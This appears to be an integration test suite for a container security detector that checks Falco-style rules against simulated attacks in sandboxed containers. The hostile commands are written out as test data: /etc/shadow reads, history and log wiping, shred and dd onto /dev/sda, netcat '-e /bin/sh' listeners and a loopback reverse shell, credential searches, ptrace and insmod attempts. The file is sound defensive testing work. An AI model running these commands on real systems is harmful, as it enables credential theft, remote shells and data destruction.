/**
 * Behaviours of Falco's stable rules (issue 20; docs/rules.md maps them), done the way real tools do
 * them: each attack is the command of a new `docker run --rm` container that acts at once, through
 * the kernel plugins to the default rules. Each test also runs a near miss — the ordinary version of
 * the same activity, in its own new container — that must raise none of the rule's alerts.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { EVENT_FIELDS, HEADER_FIELDS } from '@boxwatch/detector';
import { Containers, alertsIn, ensureImage, startPipeline, waitFor, waitForAlert, waitForEvent, type Pipeline } from './harness.js';
import type { IEvent } from '@boxwatch/core';

let p: Pipeline;
const boxes = new Containers();

/**
 * Real tools busybox lacks (gdb, strace, ssh, scp, debugfs) come from the host, read-only: its /usr
 * and the libraries the dynamic loader looks for in /lib and /lib64. Commands in such containers
 * name busybox applets by /bin path, since /usr/bin now comes first in PATH.
 */
const HOST_TOOLS = ['-v', '/usr:/usr:ro', '-v', '/usr/lib:/lib:ro', '-v', '/usr/lib64:/lib64:ro'];
const NO_NET = ['--network', 'none'];

beforeAll(async () => {
  await ensureImage();
  p = await startPipeline({ models: false });
});

afterAll(async () => {
  await boxes.removeAll();
  await p?.close();
});

/** An attack container: `sh -c script` in a new container; resolves with its name once it exited. */
async function attack(role: string, args: string[], script: string): Promise<string> {
  return (await boxes.run(role, args, ['/bin/sh', '-c', script])).name;
}

/**
 * A near-miss container: `script`, then a marker exec; resolves with its name once the detector has
 * seen the marker, so every event of the script went through the syscall plugin before it. The
 * pause covers the other plugins' ring buffers (drained every 10 ms) and an alert's wait for a
 * container name (at most 500 ms, detector.alertNameWaitMs).
 */
async function nearMiss(role: string, args: string[], script: string): Promise<string> {
  const marker = `bw-marker-${Math.random().toString(36).slice(2, 8)}`;
  const { name } = await boxes.run(role, args, ['/bin/sh', '-c', `${script}; /bin/echo ${marker}`]);
  await waitForEvent(p, `marker in ${name}`, (e) => e.type === 'process.exec' && e.container?.name === name && (e.argv as string[]).includes(marker));
  await new Promise((r) => setTimeout(r, 700));
  return name;
}

const fired = (name: string, rule: string) => alertsIn(p, name).filter((a) => a.rule === rule);

describe('Falco stable-rule behaviours, each a container acting at once', () => {
  test('symlink through a traversal path and hard link onto /etc/shadow', async () => {
    const rule = 'Link over sensitive file';
    const box = await attack('link', NO_NET, 'ln -s /etc/../etc//shadow /tmp/s; ln /etc/shadow /tmp/h');
    await waitForAlert(p, rule, box, (a) => a.message.includes('syscall.symlink'));
    await waitForAlert(p, rule, box, (a) => a.message.includes('syscall.link'));
    const quiet = await nearMiss('link-nm', NO_NET, 'ln -s /etc/passwd /tmp/p; ln /etc/group /tmp/g');
    expect(fired(quiet, rule)).toEqual([]);
  });

  test('reading /etc/shadow through a traversal path', async () => {
    const rule = 'Read sensitive file';
    const box = await attack('trav', NO_NET, 'cat /etc/../etc//shadow > /dev/null');
    const a = await waitForAlert(p, rule, box);
    expect(a.message).toContain('/etc/shadow read by cat');
    const quiet = await nearMiss('trav-nm', NO_NET, 'cat /etc/../etc/passwd > /dev/null');
    expect(fired(quiet, rule)).toEqual([]);
  });

  test('shell history emptied with `>` and removed with rm, a log truncated', async () => {
    const rule = 'Log or shell history cleared';
    const box = await attack(
      'logclr',
      NO_NET,
      'echo ls >> /root/.ash_history; : > /root/.ash_history; cd /root && rm .ash_history; echo x >> /var/log/app.log; truncate -s 0 /var/log/app.log',
    );
    await waitForAlert(p, rule, box, (a) => a.message.includes('/root/.ash_history cleared (file.open) by sh'));
    await waitForAlert(p, rule, box, (a) => a.message.includes('.ash_history cleared (syscall.unlink'));
    // busybox truncate opens the file and ftruncate()s the descriptor: its write-open is the signal.
    await waitForAlert(p, rule, box, (a) => a.message.includes('/var/log/app.log cleared (file.open) by truncate'));
    // Near miss: appending to a log and to the history, and rotating a log as the eval's log shipper
    // does (rename, start a fresh one with `>`, delete the old generation).
    const quiet = await nearMiss(
      'logclr-nm',
      NO_NET,
      'echo x >> /var/log/app.log; echo ls >> /root/.ash_history; mv /var/log/app.log /var/log/app.log.1; : > /var/log/app.log; rm /var/log/app.log.1',
    );
    expect(fired(quiet, rule)).toEqual([]);
  });

  test('shred of a file and dd onto a block device name', async () => {
    const rule = 'Bulk data removal tool run';
    // busybox's shell runs dd in-process (no exec): the write-open of the device is what is seen.
    // (No real disk is touched: /dev/sda does not exist in the container, dd creates a file there.)
    const box = await attack('shred', NO_NET, 'echo secret > /tmp/f; shred -u /tmp/f; dd if=/dev/zero of=/dev/sda bs=1k count=1');
    await waitForAlert(p, rule, box, (a) => a.message.includes('shred -u /tmp/f'));
    await waitForAlert(p, rule, box, (a) => a.message.includes('file.open /dev/sda by dd'));
    const quiet = await nearMiss('shred-nm', NO_NET, 'dd if=/dev/zero of=/tmp/z bs=1k count=1; rm /tmp/z');
    expect(fired(quiet, rule)).toEqual([]);
  });

  test('a packet socket (arping), while ping stays quiet', async () => {
    const rule = 'Packet or raw socket created';
    const box = await attack('packet', NO_NET, 'arping -c 1 -w 1 -I lo 127.0.0.1');
    const a = await waitForAlert(p, rule, box);
    expect(a.message).toContain('AF_PACKET');
    const quiet = await nearMiss('packet-nm', NO_NET, 'ping -c 1 127.0.0.1');
    expect(fired(quiet, rule)).toEqual([]);
  });

  // -w 1: busybox nc gives up waiting for a connection after a second.
  test('nc -e listening with no connection ever made', async () => {
    const rule = 'Netcat or socat with exec option';
    const box = await attack('ncexec', NO_NET, 'nc -l -p 9000 -w 1 -e /bin/sh');
    const a = await waitForAlert(p, rule, box);
    expect(a.message).toContain('-e /bin/sh');
    const quiet = await nearMiss('ncexec-nm', NO_NET, 'nc -l -p 9000 -w 1');
    expect(fired(quiet, rule)).toEqual([]);
  });

  // The searches are the containers' commands: busybox's shell runs find and grep in a forked child
  // without exec (NOEXEC applets), so inside a busybox script their arguments never reach the kernel
  // as an exec (docs/rules.md, limits).
  test('find for private keys and grep for passwords', async () => {
    const rule = 'Search for credentials';
    const { name: find } = await boxes.run('credsearch', NO_NET, ['find', '/', '-name', 'id_rsa']);
    await waitForAlert(p, rule, find, (a) => a.message.includes('find / -name id_rsa'));
    const { name: grep } = await boxes.run('credsearch-grep', NO_NET, ['grep', '-ri', 'password', '/etc']);
    await waitForAlert(p, rule, grep, (a) => a.message.includes('grep -ri password'));
    // By path, the shell execs them (so the near miss is seen).
    const quiet = await nearMiss('credsearch-nm', NO_NET, "/bin/find /etc -name '*.conf'; /bin/grep root /etc/passwd");
    await waitForEvent(p, 'the near-miss find', (e) => e.type === 'process.exec' && e.container?.name === quiet && (e.argv as string[])[0] === '/bin/find');
    expect(fired(quiet, rule)).toEqual([]);
  });

  test('a reverse shell: nc -e puts its TCP connection on the shell\'s stdin; a web server and wget health checks do not', async () => {
    const rule = 'Network socket redirected onto stdin or stdout';
    // The attacker's listener is in the same container, on loopback. The connect is retried until
    // the listener is up (its start is not ordered with the client's otherwise).
    const box = await attack(
      'revshell',
      NO_NET,
      '(nc -l -p 9001 </dev/null >/dev/null &); for i in $(seq 100); do nc 127.0.0.1 9001 -e /bin/sh && break; usleep 50000; done',
    );
    const a = await waitForAlert(p, rule, box);
    expect(a.message).toMatch(/AF_INET\) put on fd 0 by nc/);
    // Near miss: busybox httpd (its per-request child has the connection on stdin/stdout) checked
    // by a wget loop on 127.0.0.1 and on the container's own address.
    const quiet = await nearMiss(
      'revshell-nm',
      [],
      'mkdir -p /tmp/www && echo ok > /tmp/www/index.html && httpd -p 8080 -h /tmp/www; ' +
        'for i in $(seq 100); do wget -q -O /dev/null http://127.0.0.1:8080/ && break; usleep 50000; done; ' +
        'wget -q -O /dev/null http://$(hostname -i):8080/',
    );
    expect(alertsIn(p, quiet).map((x) => x.rule).filter((r) => r === rule || r?.startsWith('Reverse shell'))).toEqual([]);
  });

  test('ptrace: gdb starting a program (PTRACE_TRACEME), strace attaching, and a failed attach', async () => {
    const box = await attack('ptrace', [...NO_NET, ...HOST_TOOLS], '/usr/bin/gdb -q -batch -nx -ex run --args /bin/true; /bin/sleep 1 & /usr/bin/strace -o /dev/null -p $!; /usr/bin/strace -p 99999');
    const traceme = await waitForAlert(p, 'Ptrace anti-debugging in container', box);
    expect(traceme.message).toContain('(ret 0)');
    await waitForAlert(p, 'Ptrace attach in container', box, (a) => a.message.includes('PTRACE_SEIZE') && a.message.includes('(ret 0)'));
    // ESRCH: the attempt on a pid that does not exist is reported too.
    await waitForAlert(p, 'Ptrace attach in container', box, (a) => a.message.includes('pid 99999') && a.message.includes('(ret -3)'));
    const quiet = await nearMiss('ptrace-nm', [...NO_NET, ...HOST_TOOLS], '/usr/bin/gdb --version > /dev/null; /usr/bin/strace -V > /dev/null');
    expect(alertsIn(p, quiet).map((x) => x.rule).filter((r) => r?.startsWith('Ptrace'))).toEqual([]);
  });

  // Nothing listens on 127.0.0.1:2222 or :22: the connect is refused, and it is the attempt that counts.
  test('ssh and scp to port 2222', async () => {
    const rule = 'Outbound SSH to non-standard port';
    const opts = '-o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no';
    const box = await attack('ssh', [...NO_NET, ...HOST_TOOLS], `/usr/bin/ssh ${opts} -p 2222 root@127.0.0.1 true; /usr/bin/scp ${opts} -P 2223 /etc/hostname root@127.0.0.1:/tmp/`);
    await waitForAlert(p, rule, box, (a) => a.message.includes('127.0.0.1:2222'));
    await waitForAlert(p, rule, box, (a) => a.message.includes('127.0.0.1:2223'));
    const quiet = await nearMiss('ssh-nm', [...NO_NET, ...HOST_TOOLS], `/usr/bin/ssh ${opts} root@127.0.0.1 true`);
    expect(fired(quiet, rule)).toEqual([]);
  });

  test('wget to a Kubernetes API server port', async () => {
    const rule = 'Contact with the Kubernetes API server';
    // The "API server" is a container of this test (its address, nothing listening): the connect
    // attempt is what counts.
    const server = await boxes.start('k8s-api');
    const ip = await boxes.ip(server);
    const box = await attack('k8s', [], `wget -q -O /dev/null http://${ip}:6443/api`);
    const a = await waitForAlert(p, rule, box);
    expect(a.message).toContain(`${ip}:6443 by wget`);
    const quiet = await nearMiss('k8s-nm', [], `wget -q -O /dev/null http://${ip}:8080/`);
    expect(fired(quiet, rule)).toEqual([]);
  });

  test('insmod refused by seccomp', async () => {
    const rule = 'Kernel module load attempt in container';
    const box = await attack('insmod', NO_NET, 'insmod /etc/hostname');
    // busybox's shell runs insmod in-process (no exec): the refused syscall is what is seen.
    const a = await waitForAlert(p, rule, box, (x) => /syscall\.f?init_module/.test(x.message));
    expect(a.message).toContain('by insmod');
    const quiet = await nearMiss('insmod-nm', NO_NET, 'lsmod > /dev/null');
    expect(fired(quiet, rule)).toEqual([]);
  });

  test('a system user (uid 33) with an interactive shell', async () => {
    const rule = 'System user interactive session';
    const { name: box } = await boxes.run('sysuser', [...NO_NET, '-t', '--user', '33'], ['/bin/sh', '-c', 'id']);
    await waitForAlert(p, rule, box);
    // Near miss: the same service user running a script (no terminal), and root with a terminal.
    const quiet = await nearMiss('sysuser-nm', [...NO_NET, '--user', '33'], 'id');
    expect(fired(quiet, rule)).toEqual([]);
  });

  test('debugfs', async () => {
    const rule = 'Debugfs run in container';
    const box = await attack('debugfs', [...NO_NET, ...HOST_TOOLS], '/usr/sbin/debugfs -R stats /dev/null');
    await waitForAlert(p, rule, box);
    const quiet = await nearMiss('debugfs-nm', [...NO_NET, ...HOST_TOOLS], '/usr/bin/stat /dev/null > /dev/null');
    expect(fired(quiet, rule)).toEqual([]);
  });
});

describe('ordinary container life raises no rule alert', () => {
  // The eval's `svc` normal workload (eval/scenarios/svc/app.sh): a shell entrypoint that installs its
  // bundle, runs httpd, health-checks it with wget on 127.0.0.1 and its own address, and rotates its log.
  test('shell entrypoint, install step, wget health checks, log rotation', async () => {
    const dir = new URL('../../../../eval/scenarios/svc/', import.meta.url).pathname;
    const box = await boxes.start('svc', ['-e', 'ROTATE_EVERY=2', '-v', `${dir}app.sh:/app.sh:ro`, '-v', `${dir}files/opt/svc:/opt/svc:ro`], ['sh', '/app.sh']);
    // Two rotations (each gzips the old log) mean every step of the script ran at least once.
    await waitFor('two log rotations', () => p.events.filter((e) => e.type === 'process.exec' && e.container?.name === box && ((e as IEvent & { argv?: string[] }).argv?.[0] === 'gzip')).length >= 2);
    await new Promise((r) => setTimeout(r, 700)); // as nearMiss: other rings, alert name wait
    expect(alertsIn(p, box).map((a) => `${a.rule}: ${a.message}`)).toEqual([]);
  });
});

describe('the rules\' field list', () => {
  // Runs last: every event the suite's containers made, decoded from the real kernel.
  test('knows every field of every event type the plugins emitted (a rule on it is accepted at load)', () => {
    const unknown = new Set<string>();
    const types = new Set<string>();
    for (const e of p.events) {
      types.add(e.type);
      const known = EVENT_FIELDS[e.type];
      for (const field of Object.keys(e.toJSON())) {
        if (field === 'schema' || HEADER_FIELDS.includes(field)) continue;
        if (!known?.includes(field)) unknown.add(`${e.type}.${field}`);
      }
    }
    expect(types.size).toBeGreaterThan(25);
    expect([...unknown].sort()).toEqual([]);
  });
});
